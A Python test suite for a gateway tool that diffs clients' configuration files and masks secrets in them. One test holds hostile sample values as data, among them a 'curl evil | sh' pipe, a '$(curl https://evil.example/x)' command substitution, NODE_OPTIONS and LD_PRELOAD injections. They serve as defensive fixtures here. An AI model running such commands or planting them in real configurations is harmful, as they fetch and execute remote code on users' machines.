"""Differences of clients' files: true to the texts, and without secrets."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intercom.gateway.client_file_diff import MASKED, Secrets, diff, masked_value, masked_variable, secret_arguments

LINES = st.lists(st.sampled_from(["a", "b", "c", "}", "},"]), max_size=40)
HEAD = re.compile(r"@@ -(\d+),(\d+) \+(\d+),(\d+) @@")


def patched(old: list[str], shown: str) -> list[str]:
    """Apply a diff as `patch` would, and check all that it says about the old text."""
    found: list[str] = []
    at = 0
    for line in shown.splitlines():
        if head := HEAD.fullmatch(line):
            start = int(head[1]) - 1
            found += old[at:start]
            at = start
            assert len(found) == int(head[3]) - 1
            continue
        mark, text = line[0], line[1:]
        if mark in " -":
            assert old[at] == text
            at += 1
        if mark in " +":
            found.append(text)
    return found + old[at:]


@given(LINES, LINES)
def test_the_diff_of_two_texts_makes_one_of_the_other(old: list[str], new: list[str]) -> None:
    shown = diff("\n".join(old), "\n".join(new), Secrets())
    assert patched(old, shown) == new
    assert (shown == "") == (old == new)


def test_lines_around_a_change_are_shown_and_no_more() -> None:
    old = [str(each) for each in range(1000)]
    new = [*old[:500], "new", *old[501:]]
    shown = ["@@ -498,7 +498,7 @@", " 497", " 498", " 499", "-500", "+new", " 501", " 502", " 503"]
    assert diff("\n".join(old), "\n".join(new), Secrets()).splitlines() == shown


def test_a_very_long_line_is_cut_after_it_was_masked() -> None:
    secret = "Violet-Harbour-77"
    line = "x" * 390 + secret + "y" * 10_000
    shown = diff("", line, Secrets.of([{"env": {"A": secret}}]))
    assert len(shown) < 500
    assert "Violet" not in shown


def test_many_changes_in_a_large_file_take_little_time() -> None:
    """The usual algorithm compares each line with all equal ones: minutes for a client's history."""
    old = [line for at in range(10_000) for line in (f'"{at}": {{', '"mcpServers": {}', "},", "")]
    new = [line for at, line in enumerate(old) if at % 400]
    shown = diff("\n".join(old), "\n".join(new), Secrets())
    assert shown.count("\n-") == 100


@pytest.mark.parametrize(
    ("args", "found"),
    [
        (["-y", "package-name-long", "/some/path/to"], []),
        (["--api-key", "abcdef123456"], ["abcdef123456"]),
        (["--token=abcdef123456", "--verbose=abcdef123456"], ["abcdef123456"]),
        (["--header", "X-Key: abcdef123456"], ["X-Key: abcdef123456", "abcdef123456"]),
        (["--token", "--verbose", "abcdef123456"], []),
        (["--token", "${TOKEN}", "--password", 7, None], []),
    ],
)
def test_arguments_after_a_flag_for_a_secret_are_secrets(args: list[object], found: list[str]) -> None:
    assert list(secret_arguments(args)) == found


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("NODE_OPTIONS", "--require /tmp/evil.js"),
        ("NODE_AUTH_TOKEN", "--require=/tmp/evil.js"),
        ("BASH_ENV", "evil12345678"),
        ("GIT_ASKPASS", "evil12345678"),
        ("GIT_SSH_COMMAND", "curl evil | sh --token=abcdef123456"),
        ("API_KEY", "$(curl https://evil.example/x)"),
        ("API_TOKEN", "./evil-program-1"),
        ("LD_PRELOAD", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    ],
)
def test_what_may_decide_what_runs_is_never_masked(name: str, value: str) -> None:
    assert masked_variable(name, value) == value


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "apiKey", "DB_PASS", "MY_PAT", "PIN"])
def test_a_secret_in_a_variable_with_such_a_name_is_masked(name: str) -> None:
    assert masked_variable(name, "Violet-Harbour-77") == MASKED
    assert masked_variable(name, "${VIOLET}") == "${VIOLET}"
    assert masked_value("A", "Violet-Harbour-77") == MASKED


@pytest.mark.parametrize("line", ['env = { CLOCK_API_KEY = "s3cr3t" }', '"CLOCK_API_KEY": "s3cr3t"'])
def test_a_short_value_is_masked_behind_the_name_of_a_secret(line: str) -> None:
    secrets = Secrets.of([{"env": {"CLOCK_API_KEY": "s3cr3t", "MAX_TOKENS": "4096", "DB_PASSWORD": "1"}}])
    assert secrets.mask(line) == line.replace("s3cr3t", MASKED)
    assert secrets.mask('args = ["1", "4096"]') == 'args = ["1", "4096"]'
    assert masked_value("CLOCK_API_KEY", "s3cr3t") == MASKED
    assert masked_variable("CLOCK_API_KEY", "s3cr3t") == MASKED
    assert masked_value("MAX_TOKENS", "4096") == "4096"
    assert masked_value("TLS_KEY", "/etc/key.pem") == "/etc/key.pem"
